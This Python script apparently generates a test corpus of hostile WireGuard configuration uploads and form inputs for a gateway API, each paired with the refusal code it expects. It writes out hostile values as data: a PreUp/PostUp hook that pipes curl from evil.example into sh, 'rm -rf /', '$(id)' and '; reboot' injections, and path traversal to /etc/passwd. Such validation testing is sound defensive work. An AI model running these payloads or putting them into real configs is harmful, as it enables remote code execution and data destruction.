#!/usr/bin/env python3
"""Writes crates/peergate/tests/it/hostile/corpus.json: hostile uploads (configs, form fields, file
names), each with the refusal it must get. The test `hostile::the_corpus_is_refused_and_nothing_is_written`
runs every case through the API on both databases. Edit the cases here and rerun; the JSON is
committed so the suite needs no Python."""
import json
import pathlib

KEY = "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE="
PEER = "AgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgI="
cases = []


def conf(iface=(), allowed="10.77.0.0/24", endpoint="192.0.2.10:51820", peer=(), address="10.204.0.2/32",
         private=KEY, public=PEER):
    lines = ["[Interface]", f"PrivateKey = {private}", f"Address = {address}", *iface, "[Peer]",
             f"PublicKey = {public}", f"AllowedIPs = {allowed}", f"Endpoint = {endpoint}", *peer]
    return "\n".join(lines) + "\n"


def case(name, code, text=None, line=None, status=422, fields=None, file_name="site-a.conf"):
    cases.append({"name": name, "conf": text if text is not None else conf(), "fields": fields or {},
                  "file_name": file_name, "status": status, "code": code, "line": line})


# Hooks run shell commands as root.
for hook in ["PreUp", "PostUp", "PreDown", "PostDown"]:
    for payload in ["iptables -F", "curl http://evil.example | sh", "rm -rf /", "$(reboot)", "echo x > /etc/passwd"]:
        case(f"{hook}: {payload}", "hook_refused", conf(iface=[f"{hook} = {payload}"]), 4)
# Tables other than auto install no routes.
for table in ["off", "1234", "51820", "main"]:
    case(f"Table = {table}", "table_refused", conf(iface=[f"Table = {table}"]), 4)
# Special-purpose ranges, as AllowedIPs and as interface addresses.
specials = ["127.0.0.0/8", "169.254.169.254/32", "169.254.0.0/16", "224.0.0.0/4", "239.255.255.250/32",
            "240.0.0.0/4", "255.255.255.255/32", "0.0.0.0/8", "::1/128", "fe80::/10", "ff02::1/128",
            "::ffff:10.0.0.0/104", "100::/64"]
for net in specials:
    case(f"AllowedIPs = {net}", "special_range", conf(allowed=net), 6)
for addr in ["127.0.0.2/32", "169.254.1.2/32", "224.0.0.5/32", "240.0.0.1/32", "::1/128", "fe80::2/128", "0.0.0.1/32"]:
    case(f"Address = {addr}", "special_range", conf(address=addr), 3)
# Interface addresses that route too much.
for addr in ["200.0.0.2/1", "8.0.0.2/8", "fd00::2/0", "10.204.0.2/0", "2001:db8::2/16"]:
    case(f"Address = {addr}", "address_route", conf(address=addr), 3)
# Overlaps with what the gateway has (the test gateway: LAN 10.201.0.1/24 and 2001:db8:201::1/64,
# WAN 198.18.0.2/24), with the endpoint.
for net in ["10.201.0.0/24", "10.201.0.128/25", "10.0.0.0/8", "2001:db8:201::/48", "198.18.0.0/24", "198.18.0.128/25"]:
    case(f"AllowedIPs = {net} overlaps the gateway", "subnet_overlap", conf(allowed=net), 6)
case("AllowedIPs cover the endpoint", "subnet_overlap", conf(allowed="203.0.113.0/24", endpoint="203.0.113.9:51820"), 6)
case("Address on the WAN", "address_overlap", conf(address="198.18.0.9/24"), 3)
case("Address on the LAN", "address_overlap", conf(address="10.201.0.77/24"), 3)
# Listen ports.
for port in ["1", "22", "53", "80", "443", "1023"]:
    case(f"ListenPort = {port}", "listen_port_privileged", conf(iface=[f"ListenPort = {port}"]), 4)
for port in ["5353"]:
    case(f"ListenPort = {port} (bound)", "listen_port_in_use", conf(iface=[f"ListenPort = {port}"]), 4)
for port in ["70000", "-1", "abc", "53 53", KEY]:
    case(f"ListenPort = {port[:10]}", "parse_error", conf(iface=[f"ListenPort = {port}"]), 4)
# Keys.
for bad in ["short", "not base64 at all!!", "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEB", "", KEY + "AAAA"]:
    case(f"PrivateKey = {bad[:12]}", "parse_error", conf(private=bad), 2)
    case(f"PublicKey = {bad[:12]}", "parse_error", conf(public=bad), 5)
# Keys wg-quick does not know.
for key in ["PostUpp", "Foo", "Exec", "SaveConfigg", "PrivateKeyFile"]:
    case(f"unknown [Interface] key {key}", "unknown_key", conf(iface=[f"{key} = 1"]), 4)
for key in ["Keepalive", "AllowedIP", "Bar"]:
    case(f"unknown [Peer] key {key}", "unknown_key", conf(peer=[f"{key} = 1"]), 8)
# Values.
values = [
    ("Address = 10.204.0.2/33", conf(address="10.204.0.2/33"), 3),
    ("Address = not-an-address", conf(address="not-an-address"), 3),
    ("AllowedIPs with host bits", conf(allowed="10.77.0.1/24"), 6),
    ("AllowedIPs = 10.77.0.0/33", conf(allowed="10.77.0.0/33"), 6),
    ("AllowedIPs = garbage", conf(allowed="garbage"), 6),
    ("AllowedIPs = 10.77.0.0/24; reboot", conf(allowed="10.77.0.0/24; reboot"), 6),
    ("Endpoint without port", conf(endpoint="192.0.2.10"), 7),
    ("Endpoint port 0", conf(endpoint="192.0.2.10:0"), 7),
    ("Endpoint port 70000", conf(endpoint="192.0.2.10:70000"), 7),
    ("Endpoint unbracketed IPv6", conf(endpoint="2001:db8::1:51820"), 7),
    ("Endpoint with a space", conf(endpoint="vpn example.com:51820"), 7),
    ("Endpoint $(id)", conf(endpoint="$(id):51820"), 7),
    ("MTU = 100", conf(iface=["MTU = 100"]), 4),
    ("MTU = 70000", conf(iface=["MTU = 70000"]), 4),
    ("MTU = abc", conf(iface=["MTU = abc"]), 4),
    ("MTU = the private key", conf(iface=[f"MTU = {KEY}"]), 4),
    ("PersistentKeepalive = 70000", conf(peer=["PersistentKeepalive = 70000"]), 8),
    ("PersistentKeepalive = -5", conf(peer=["PersistentKeepalive = -5"]), 8),
    ("FwMark = x", conf(iface=["FwMark = x"]), 4),
    ("DNS = ;rm -rf /", conf(iface=["DNS = ;rm -rf /"]), 4),
    ("SaveConfig = maybe", conf(iface=["SaveConfig = maybe"]), 4),
    ("a line without =", conf(iface=["JustAWord"]), 4),
    ("empty value", conf(iface=["MTU ="]), 4),
]
for name, text, line in values:
    case(name, "parse_error", text, line)
# Structure.
structure = [
    ("empty file", "", None),
    ("only comments", "# nothing\n# here\n", None),
    ("no [Interface]", "[Peer]\nPublicKey = %s\nAllowedIPs = 10.77.0.0/24\nEndpoint = 192.0.2.10:1\n" % PEER, None),
    ("two [Interface] sections", conf().replace("[Peer]", "[Interface]\nPrivateKey = %s\nAddress = 10.9.0.2/32\n[Peer]" % KEY, 1), 4),
    ("no [Peer]", "[Interface]\nPrivateKey = %s\nAddress = 10.204.0.2/32\n" % KEY, None),
    ("a key before any section", "PrivateKey = %s\n" % KEY + conf(), 1),
    ("unclosed section", conf().replace("[Peer]", "[Peer"), 4),
    ("unknown section", conf().replace("[Peer]", "[Peers]"), 4),
    ("missing PrivateKey", conf().replace("PrivateKey = %s\n" % KEY, ""), None),
    ("missing Address", conf().replace("Address = 10.204.0.2/32\n", ""), None),
    ("missing PublicKey", conf().replace("PublicKey = %s\n" % PEER, ""), None),
    ("missing AllowedIPs", conf().replace("AllowedIPs = 10.77.0.0/24\n", ""), None),
    ("missing Endpoint", conf().replace("Endpoint = 192.0.2.10:51820\n", ""), None),
    ("a second PrivateKey", conf(iface=["PrivateKey = %s" % PEER]), 4),
]
for name, text, line in structure:
    case(name, "parse_error", text, line)
# Not text.
case("a NUL byte", "not_text", conf(iface=["MTU = 1420\x00"]), 4)
case("a bell character", "not_text", conf(iface=["MTU = 1420\x07"]), 4)
case("an escape sequence", "not_text", conf(iface=["# \x1b[2J"]), 4)
# Form fields.
for name in ["sec1-g+", "eth*", "../../etc/passwd", "a;reboot", "-x", "--help", "all", "default", "help",
             "interfaces", "x" * 16, "wg0\nreboot", "$(id)", "a b", "名前", "..", KEY]:
    case(f"interface field {name[:20]!r}", "invalid_name", fields={"interface": name})
# The display name is free text, but never invisible, multi-line, unbounded or a key.
for name in ["site\nadmin logged in", "site\r", "a\u202eb", "a\u200bb", "\ufeffsite", "bell\x07", "\x1b[2J",
             "ä" * 65, KEY, "site " + KEY.rstrip("=")]:
    case(f"name field {name[:20]!r}", "invalid_display_name", fields={"name": name})
case("unknown form field", "validation_failed", fields={"command": "reboot"})
case("allow_wide_routes = yes", "validation_failed", fields={"allow_wide_routes": "yes"})
case("a 2000-character name", "validation_failed", fields={"name": "a" * 2000})
# File names that suggest no name at all (no name field). Others, however hostile, suggest a
# display name from which a literal interface name is derived (tested in client_lifecycle).
for file_name in [".conf", "..conf", "...conf", "-.conf", "(\u202e).conf"]:
    case(f"file name {file_name!r}", "validation_failed", file_name=file_name)
# The subnet field, for a full-tunnel file.
full = conf(allowed="0.0.0.0/0, ::/0")
subnets = [
    ("0.0.0.0/0", "invalid_subnet"), ("::/0", "invalid_subnet"), ("10.0.0.0/8; reboot", "invalid_subnet"),
    ("$(id)", "invalid_subnet"), ("10.60.0.1/24", "invalid_subnet"), ("10.60.0.0/33", "invalid_subnet"),
    ("8.0.0.0/8", "invalid_subnet"), ("0.0.0.0/1, 128.0.0.0/1", "invalid_subnet"), (KEY, "invalid_subnet"),
    ("0a" * 32, "invalid_subnet"), ("1" * 2000, "validation_failed"), ("169.254.169.254/32", "special_range"),
    ("127.0.0.0/8", "special_range"), ("10.201.0.0/24", "subnet_overlap"), ("198.18.0.0/25", "subnet_overlap"),
    ("10.60.0.0/16, 10.60.1.0/24", "subnet_overlap"),
]
for subnet, code in subnets:
    case(f"subnet field {subnet[:24]!r}", code, full, fields={"subnet": subnet})
for probe, code in [("10.99.0.1", "probe_host_outside_subnet"), ("abc", "invalid_probe_host"),
                    ("10.77.0.1; reboot", "invalid_probe_host"), (KEY, "invalid_probe_host")]:
    case(f"probe host {probe[:20]!r}", code, fields={"probe_host": probe})

out = pathlib.Path(__file__).resolve().parent.parent / "crates/peergate/tests/it/hostile/corpus.json"
out.write_text(json.dumps(cases, indent=1, ensure_ascii=False) + "\n")
print(f"{len(cases)} cases → {out}")
